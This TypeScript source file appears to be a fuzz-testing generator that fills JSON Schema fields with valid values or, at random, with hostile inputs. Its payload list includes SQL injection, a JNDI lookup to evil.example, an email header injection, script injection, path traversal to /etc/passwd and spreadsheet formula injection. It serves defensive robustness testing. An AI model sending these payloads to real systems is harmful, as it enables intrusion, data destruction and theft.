import { z } from 'zod';
import { richTextOf } from '../../contracts/src/rich-text-rules.ts';
import type { Random } from '../../demo/src/random.ts';

/** The parts of JSON Schema that our contracts turn into. */
export interface Schema {
  type?: string;
  format?: string;
  pattern?: string;
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  items?: Schema;
  minItems?: number;
  maxItems?: number;
  properties?: Record<string, Schema>;
  propertyNames?: Schema;
  additionalProperties?: Schema | boolean;
}

export const schemaOf = (type: z.ZodType, io: 'input' | 'output'): Schema =>
  z.toJSONSchema(type, { io, unrepresentable: 'any' }) as Schema;

/** The source of values that only the world knows. */
export interface Source {
  random: Random;
  /** An id for a field or parameter of this name: a row that fits it, some other row, or a row of the other tenant. */
  id(name: string): string;
  word(): string;
  /** The percentage of optional fields that are set. */
  optionalPercent: number;
}

const patterned = [
  '2026-01-15',
  '01-15',
  'session-00000000-00000000',
  '#7a3e9d',
  '0123abcd',
  'logo-0123456789abcdef.png',
];

/** A value that the schema accepts, except where `spoil` replaces it. */
export function fill(schema: Schema, source: Source, name: string, spoil: () => boolean): unknown {
  const { random } = source;
  if (spoil()) return hostileValue(source);
  if (schema.properties?.type?.const === 'doc' && random.chance(60))
    return richTextOf(`${source.word()} ${source.word()}`);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fill(random.pick(choices), source, name, spoil);
  if (schema.allOf) return Object.assign({}, ...schema.allOf.map((part) => fill(part, source, name, spoil)));
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return random.pick(schema.enum);
  if (schema.type === 'object') return fillObject(schema, source, name, spoil);
  if (schema.type === 'array') return fillArray(schema, source, name, spoil);
  if (schema.type === 'integer' || schema.type === 'number') return fillNumber(schema, random);
  if (schema.type === 'boolean') return random.chance(50);
  if (schema.type === 'null') return null;
  if (schema.type === 'string') return fillText(schema, source, name);
  return random.pick([source.word(), source.id(name), random.between(0, 5), true]);
}

function fillObject(schema: Schema, source: Source, parent: string, spoil: () => boolean): Record<string, unknown> {
  const { random, optionalPercent } = source;
  const names = (schema.propertyNames?.enum ?? []) as string[];
  const open = typeof schema.additionalProperties === 'object' ? schema.additionalProperties : {};
  const fields = schema.properties ?? Object.fromEntries(names.map((name) => [name, open]));
  const required = (schema as { required?: string[] }).required ?? [];
  const chosen = Object.entries(fields).filter(([name]) =>
    random.chance(required.includes(name) ? 99 : optionalPercent),
  );
  // The id of a recipient is not the id of the post.
  const nameOf = (name: string) => (name === 'id' && parent !== 'body' ? `${parent}Id` : name);
  return Object.fromEntries(chosen.map(([name, part]) => [name, fill(part, source, nameOf(name), spoil)]));
}

function fillArray(schema: Schema, source: Source, name: string, spoil: () => boolean): unknown[] {
  const { random } = source;
  const { minItems = 0, maxItems = 10 } = schema;
  const most = random.chance(3) ? Math.min(maxItems, 300) : Math.min(maxItems, minItems + 4);
  return Array.from({ length: random.between(minItems, most) }, () => fill(schema.items ?? {}, source, name, spoil));
}

function fillNumber({ minimum = 0, maximum = 1000 }: Schema, random: Random): number {
  const [low, high] = [Math.max(minimum, -1_000_000), Math.min(maximum, 1_000_000)];
  return random.pick([low, high, random.between(low, high), random.between(low, Math.min(high, low + 20))]);
}

/** Formats of fields that schemas do not describe, because a function checks them. */
const texts: Record<string, (random: Random) => string> = {
  email: (random) => `someone${random.between(1, 9999)}@example.test`,
  timezone: (random) => random.pick(['Europe/Paris', 'UTC', 'America/St_Johns']),
  domain: () => 'alpha.localhost',
  password: () => 'a long enough password',
  token: () => 'x'.repeat(43),
  code: () => '123456',
  filename: () => 'picture.png',
};

function fillText(schema: Schema, source: Source, name: string): string {
  const { random } = source;
  if (schema.format === 'uuid') return source.id(name);
  const known = Object.entries(texts).find(([field]) => name.toLowerCase().includes(field))?.[1];
  if (known) return known(random);
  if (schema.format === 'date') return random.pick(['2026-01-15', '2025-02-28', '1990-12-31']);
  if (schema.format === 'date-time') return random.pick(['2026-01-15T12:00:00Z', '2099-06-01T08:30:00+02:00']);
  if (schema.format === 'uri') return 'https://media.giphy.com/media/abc/giphy.gif';
  const { pattern } = schema;
  if (pattern) return patterned.find((text) => new RegExp(pattern).test(text)) ?? 'sample@example.test';
  const { minLength = 0, maxLength = 40 } = schema;
  const text = random.chance(5) ? 'long '.repeat(maxLength) : `${source.word()} ${source.word()}`;
  return text.padEnd(minLength, 'x').slice(0, maxLength);
}

const zalgo = `Z${'\u0301'.repeat(300)}`;
const scalars: unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  2 ** 31,
  2 ** 53,
  1e308,
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud83d',
  'line\r\nBcc: eve@evil.example',
  '\u202egnp.exe',
  '\u200b\ufeff',
  zalgo,
  '👩‍👩‍👧‍👦'.repeat(200),
  "'; drop table tenant_member; --",
  "' or 1=1 --",
  '%_\\',
  '$1',
  '${jndi:ldap://evil.example}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '=cmd|calc!A1',
  '0000-00-00',
  '294277-01-01T00:00:00Z',
  '9999-12-31T23:59:60Z',
  '99999999999999999999',
  '-0',
  'NaN',
  'constructor',
  '__proto__',
  'x'.repeat(3000),
  'ж'.repeat(30_000),
];

export function hostileValue({ random, id }: Source): unknown {
  const kind = random.between(0, 9);
  if (kind < 6) return random.pick(scalars);
  if (kind === 6) return Array.from({ length: random.pick([0, 1, 50, 3000]) }, () => random.pick(scalars));
  if (kind === 7) return deep(random.pick([5, 31, 33, 200]));
  if (kind === 8) return { [random.pick(['id', 'toString', 'x'.repeat(500)])]: random.pick(scalars), id: id('id') };
  return id('id');
}

const deep = (depth: number): unknown => {
  let value: unknown = '\0';
  for (let level = 0; level < depth; level++) value = level % 2 ? { a: value } : [value];
  return value;
};
